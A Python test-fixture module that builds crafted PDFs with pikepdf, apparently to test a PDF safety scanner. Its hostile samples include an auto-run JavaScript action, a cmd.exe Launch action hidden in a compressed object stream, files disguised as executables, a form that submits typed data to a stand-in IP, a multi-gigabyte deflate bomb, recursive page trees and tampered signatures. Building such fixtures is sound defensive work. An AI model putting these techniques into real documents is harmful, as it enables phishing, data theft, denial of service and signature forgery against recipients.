"""Crafted PDF files, hostile and good; nothing is downloaded."""

from __future__ import annotations

import io
import re
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def saved(document: pikepdf.Pdf, **options: Any) -> bytes:
    """Return a document as bytes."""
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def blank(pages: int = 1) -> pikepdf.Pdf:
    """Return a new document with empty pages."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    return document


def good(title: str = "") -> bytes:
    """Return an honest page, objects compressed, with a web link and a go-to bookmark.

    title  what tells it from another: two that are made in one second are the same to the byte without.
    """
    document = blank(2)
    if title:
        document.docinfo["/Title"] = title
    document.pages[0].obj.Annots = Array(
        [
            document.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=[0, 0, 9, 9],
                    A=Dictionary(S=Name.URI, URI=String("https://dichvucong.quangninh.gov.vn")),
                )
            )
        ]
    )
    document.Root.OpenAction = Array([document.pages[1].obj, Name.Fit])
    return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def javascript() -> bytes:
    """Return a page that runs a script when it opens."""
    document = blank()
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    return saved(document)


def launch_in_object_stream() -> bytes:
    """Return a page that starts a program, its action hidden in a compressed object stream."""
    document = blank()
    action = document.make_indirect(Dictionary(S=Name.Launch, F=String("cmd.exe")))
    document.Root.OpenAction = document.make_indirect(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=action))
    content = saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"Launch" not in content
    return content


def embedded_program() -> bytes:
    """Return a page that carries a program."""
    document = blank()
    document.attachments["giấy mời.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00" + bytes(100))
    return saved(document)


def file_annotation() -> bytes:
    """Return a page with a paper clip that holds a file."""
    document = blank()
    stream = document.make_stream(b"MZ\x90\x00", Type=Name.EmbeddedFile)
    note = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=[0, 0, 9, 9],
        FS=Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary(F=stream)),
    )
    document.pages[0].obj.Annots = Array([note])
    return saved(document)


def sends_form() -> bytes:
    """Return a form with a button that sends what was typed."""
    document = blank()
    button = Dictionary(
        FT=Name.Btn, T=String("Gửi"), AA=Dictionary(U=Dictionary(S=Name.SubmitForm, F=String("http://203.0.113.5/")))
    )
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(button)]))
    return saved(document)


def xfa_form() -> bytes:
    """Return a dynamic XFA form."""
    document = blank()
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))
    return saved(document)


def encrypted(user: str = "bimat") -> bytes:
    """Return a page behind a password; with an empty one it opens, but with restricted rights."""
    return saved(blank(), encryption=pikepdf.Encryption(owner="chu", user=user))


def page_loop() -> bytes:
    """Return a page tree that contains itself."""
    document = blank()
    document.Root.Pages.Kids.append(document.Root.Pages)
    document.Root.Pages.Count = 1_000_000
    return _raw(document)


def page_bomb() -> bytes:
    """Return a tree of 10^6 pages made of 7 nodes, each ten times the child of the one above."""
    document = blank()
    node: Any = document.pages[0].obj
    for _ in range(6):
        node = document.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([node] * 10), Count=10))
    document.Root.Pages = node
    return _raw(document)


def deep_pages(depth: int = 60) -> bytes:
    """Return a page under more nodes than a document has a use for."""
    document = blank()
    node: Any = document.pages[0].obj
    for _ in range(depth):
        node = document.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([node]), Count=1))
    document.Root.Pages = node
    return _raw(document)


def rich_media() -> bytes:
    """Return a page with a place where a film or a program of its own would play."""
    document = blank()
    document.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])])
    return saved(document)


def many_pages(pages: int) -> bytes:
    """Return a flat tree of tiny pages."""
    document = blank()
    root = document.Root.Pages
    root.Kids = Array([document.make_indirect(_leaf(root)) for _ in range(pages)])
    root.Count = pages
    return _raw(document)


def _leaf(parent: Any) -> Dictionary:
    return Dictionary(Type=Name.Page, MediaBox=[0, 0, 1, 1], Parent=parent)


def same_page_twice() -> bytes:
    """Return a tree that names one page a hundred times."""
    document = blank()
    page = document.pages[0].obj
    document.Root.Pages.Kids = Array([page] * 100)
    document.Root.Pages.Count = 100
    return _raw(document)


def deep_array(depth: int = 100) -> bytes:
    """Return a catalogue with arrays inside arrays."""
    document = blank()
    value: Any = Array([])
    for _ in range(depth):
        value = Array([value])
    document.Root.Deep = value
    return saved(document)


def stream_bomb(gigabytes: int = 4) -> bytes:
    """Return a document whose object stream unpacks to gigabytes of spaces (made of repeated deflate blocks)."""
    chunk = b" " * 2**24
    packer = zlib.compressobj(9)
    head = packer.compress(b"5 0 <<>>  ".ljust(10)) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = head + block * (64 * gigabytes)
    body = b"%PDF-1.5\n"
    offsets = {}
    for number, text in (
        (1, b"<< /Type /Catalog /Pages 2 0 R /Bomb 5 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"),
        (4, b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed)),
    ):
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    start = len(body)
    rows = [b"\x00" + bytes(5)]
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00" for n in (1, 2, 3, 4)]
    rows += [b"\x02" + (4).to_bytes(4, "big") + b"\x00", b"\x01" + start.to_bytes(4, "big") + b"\x00"]
    table = b"".join(rows)
    body += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    return body + b"startxref\n%d\n%%%%EOF\n" % start


def signed(*, whole: bool = True) -> bytes:
    """Return a page with a signature field whose byte range covers the file, or leaves out more than its own value."""
    document = blank()
    signature = document.make_indirect(
        Dictionary(
            Type=Name.Sig,
            Filter=Name("/Adobe.PPKLite"),
            SubFilter=Name("/ETSI.CAdES.detached"),
            ByteRange=Array([0, 1111111111, 1222222222, 1333333333]),
            Contents=String(b"\xde\xad" * 40),
        )
    )
    field = Dictionary(FT=Name.Sig, T=String("Chữ ký"), V=signature)
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]), SigFlags=3)
    content = _raw(document)
    found = re.search(rb"<(?:dead){40}>", content)
    assert found
    first, second = found.span()
    if not whole:
        first -= 20
    numbers = (b"%-10d" % first, b"%-10d" % second, b"%-10d" % (len(content) - second))
    for placeholder, number in zip((b"1111111111", b"1222222222", b"1333333333"), numbers, strict=True):
        content = content.replace(placeholder, number)
    return content


def signed_often(times: int = 51) -> bytes:
    """Return a signed page with its signature repeated, each of them honest about what it covers."""
    content = signed()
    with pikepdf.open(io.BytesIO(content)) as document:
        one = next(
            value.unparse(resolved=True)
            for value in document.objects
            if isinstance(value, pikepdf.Dictionary) and "/ByteRange" in value
        )
    return with_update(content, dict.fromkeys(range(100, 99 + times), one))


def with_update(content: bytes, changes: dict[int, bytes], root_extra: bytes = b"") -> bytes:
    """Return a PDF with an incremental update: objects by number, and keys added to its catalogue."""
    with pikepdf.open(io.BytesIO(content)) as document:
        root = document.Root.objgen[0]
        text = document.Root.unparse(resolved=True)
        size = int(document.trailer.Size)
    if root_extra:
        changes = changes | {root: text.removesuffix(b">>") + root_extra + b" >>"}
    previous = int(content.rpartition(b"startxref")[2].split()[0])
    table = b"xref\n"
    for number, body in sorted(changes.items()):
        table += b"%d 1\n%010d 00000 n \n" % (number, len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(content)
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (max(size, *changes) + 1, root, previous)
    return content + table + trailer + b"startxref\n%d\n%%%%EOF\n" % start


def signed_then_changed() -> bytes:
    """Return a signed page on which something was drawn afterwards."""
    content = signed()
    with pikepdf.open(io.BytesIO(content)) as document:
        page = document.pages[0].obj
        number, text = page.objgen[0], page.unparse(resolved=True)
    return with_update(content, {number: text.replace(b"595", b"495")})


def signed_then_added() -> bytes:
    """Return a signed page to which a catalogue entry was added that is no proof of validity."""
    return with_update(signed(), {99: b"<< /Nums [] >>"}, b" /PageLabels 99 0 R")


def signed_with_proof() -> bytes:
    """Return a signed page with certificates added for long-term validation (PAdES-LT)."""
    return with_update(signed(), {98: b"<< /Certs [] >>"}, b" /DSS 98 0 R")


def _raw(document: pikepdf.Pdf) -> bytes:
    return saved(
        document, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False, fix_metadata_version=False
    )
